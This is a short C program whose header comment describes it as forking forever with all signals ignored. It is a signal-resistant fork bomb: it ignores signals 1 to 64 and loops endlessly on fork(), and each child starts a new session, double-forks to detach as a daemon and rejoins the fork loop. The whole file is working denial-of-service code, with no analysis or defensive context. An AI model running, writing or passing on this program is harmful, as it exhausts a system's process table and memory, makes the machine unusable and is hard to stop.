// Forks for ever with every signal ignored, each child a daemon in a session of its own.
#include <signal.h>
#include <stdlib.h>
#include <unistd.h>
int main(void) {
    for (int number = 1; number < 65; number++) signal(number, SIG_IGN);
    for (;;) {
        if (fork() == 0) {
            setsid();
            if (fork() != 0) _exit(0);
            chdir("/");
            close(0);
        }
    }
}
